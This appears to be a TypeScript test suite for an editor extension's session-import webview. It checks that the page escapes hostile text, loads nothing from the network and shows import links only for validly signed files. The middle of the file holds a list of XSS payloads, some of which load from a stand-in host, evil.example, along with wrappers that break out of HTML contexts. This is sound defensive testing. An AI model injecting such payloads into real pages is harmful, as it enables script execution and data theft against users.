import assert from 'node:assert/strict';
import type { Inspection } from '../../core/handoff.js';
import { fill } from '../../core/errors.js';
import { importPage, refusalPage, type PageSurroundings } from './page.js';

const around: PageSurroundings = {
  l10n: { t: (template, ...values) => fill(template, values) },
  agentName: (agent) => agent,
  moment: (at) => new Date(at).toISOString(),
  importLink: 'command:keepthread.session.import?%5B%7B%22file%22%3A%22%2Fa%22%7D%5D',
  takeTheirsLink: 'command:keepthread.session.import?%5B%5D',
  goOnLink: 'command:keepthread.session.goOnHere?%5B%5D',
  nonce: 'N',
};

/** A file whose every text is the same. */
const inspectionOf = (text: string, rest: Partial<Inspection> = {}): Inspection => ({
  file: text,
  bytes: 100,
  plainBytes: 200,
  version: text,
  isNewer: true,
  encryption: 'none',
  tool: text,
  createdAt: 0,
  root: text,
  author: { name: text, signature: 'unknown', fingerprint: text, isNameOfOther: true },
  session: {
    id: text,
    title: text,
    goal: text,
    status: 'active',
    tags: [text],
    createdAt: 0,
    updatedAt: 0,
    snapshots: 1,
  },
  threads: [
    { id: text, agent: text, isKnownAgent: false, title: text, turns: 1, records: 1, bytes: 1 },
  ],
  files: [{ path: text, repository: text, what: 'changed', hasContent: false }],
  commands: [text],
  bases: [{ name: text, remote: text, branch: text, head: text }],
  redaction: {
    lane: 'share',
    masked: [{ kind: text, count: 1 }],
    kept: [],
    homes: 0,
    sealed: 0,
    images: 0,
    shortened: 0,
    leftOut: [{ what: text, reason: 'secrets' }],
  },
  here: {
    state: 'newer',
    sessionId: text,
    conflicts: ['title'],
    differences: [{ field: 'title', here: text, theirs: text }],
  },
  findings: { kinds: [{ kind: text, count: 1 }], bytes: 1, isWhole: false },
  unknown: [text],
  ...rest,
});

/** What tries to become more than text: each way in, around each thing that would run or ask the network. */
const ways: readonly ((inner: string) => string)[] = [
  (inner) => inner,
  (inner) => `">${inner}`,
  (inner) => `'>${inner}`,
  (inner) => `</p>${inner}`,
  (inner) => `</title></style></code>${inner}`,
  (inner) => `<!--><--${inner}-->`,
  (inner) => `]]>${inner}`,
  (inner) => `&lt;${inner}&gt;`,
  (inner) => `\u0000${inner}\u202e`,
  (inner) => inner.toUpperCase(),
  (inner) => inner.replaceAll('<', '\uff1c').replaceAll('>', '\uff1e') + inner,
  (inner) => `<svg><![CDATA[${inner}]]></svg>`,
  (inner) => `<math><mtext>${inner}`,
  (inner) => `<noscript>${inner}</noscript>`,
  (inner) => `\n\n${inner}\t`,
  (inner) => `{{${inner}}}$\{${inner}}`,
];
const things: readonly string[] = [
  '<script>alert(1)</script>',
  '<script src=//evil.example/x></script>',
  '<img src=x onerror=alert(1)>',
  '<img src=//evil.example/x>',
  '<svg onload=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="command:workbench.action.terminal.new">x</a>',
  '<a href="https://evil.example">x</a>',
  '<form action=//evil.example><button>x</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video src=//evil.example/x autoplay>',
  '<audio src=//evil.example/x onerror=alert(1)>',
  '<object data=//evil.example/x>',
  '<embed src=//evil.example/x>',
  '<link rel=stylesheet href=//evil.example/x>',
  '<style>@import "//evil.example/x";</style>',
  '<style>body{background:url(//evil.example/x)}</style>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<base href=//evil.example>',
  '<template><script>alert(1)</script></template>',
  '<marquee onstart=alert(1)>',
  '<body onload=alert(1)>',
  '<div style="background:url(//evil.example/x)">',
  '<p onmouseover=alert(1)>x</p>',
  '<isindex type=image src=//evil.example>',
  '<xss id=x tabindex=1 onfocus=alert(1)></xss>',
  '<portal src=//evil.example>',
  '<picture><source srcset=//evil.example/x></picture>',
  '<button formaction=javascript:alert(1)>x</button>',
];

/** The tags of a page with their attributes, as a parser of HTML sees them. */
const tagsOf = (html: string): readonly string[] =>
  (html.match(/<\/?[a-z!][^>]*>/gi) ?? []).map((tag) => tag.toLowerCase());

suite('the page of a session file', () => {
  const plain = tagsOf(importPage(inspectionOf('x'), around));

  test(`shows ${ways.length * things.length} texts that would be more as text`, () => {
    for (const way of ways) {
      for (const thing of things) {
        const hostile = way(thing);
        assert.deepEqual(tagsOf(importPage(inspectionOf(hostile), around)), plain, hostile);
        const refusal = refusalPage(hostile, { href: hostile, label: hostile }, around);
        const tags = tagsOf(refusal).filter((tag) => !tag.startsWith('<a '));
        assert.ok(
          tags.every((tag) => /^<(?:\/|!doctype|html|head|meta|title|style|body|h1|p)/.test(tag)),
        );
      }
    }
  });

  test('asks nothing of the network, runs nothing, and calls only what imports', () => {
    const html = importPage(inspectionOf('<script>'), around);
    assert.match(html, /content="default-src 'none'; style-src 'nonce-N'"/);
    assert.doesNotMatch(html, /<script|<img|<link|<iframe|<form|<object|url\(|@import/i);
    const hrefs = [...html.matchAll(/href="([^"]*)"/g)].map(([, href = '']) => href);
    assert.deepEqual(
      hrefs.map((href) => href.replace(/\?.*/, '')),
      [
        'command:keepthread.session.import',
        'command:keepthread.session.import',
        'command:keepthread.session.goOnHere',
      ],
    );
  });

  test('offers no import of a file whose signature is broken, nor in restricted mode', () => {
    const broken = inspectionOf('x', { author: { signature: 'broken' } });
    assert.doesNotMatch(importPage(broken, around), /href=/);
    const { l10n, agentName, moment, nonce } = around;
    assert.doesNotMatch(importPage(inspectionOf('x'), { l10n, agentName, moment, nonce }), /href=/);
  });

  test('stays a page however much there is', () => {
    const many = Array.from({ length: 100_000 }, (_, at) => `command ${at}`);
    const html = importPage(inspectionOf('x'.repeat(1_000_000), { commands: many }), around);
    assert.ok(html.length < 300_000, `${html.length}`);
    assert.match(html, /99,?800 more/);
  });
});
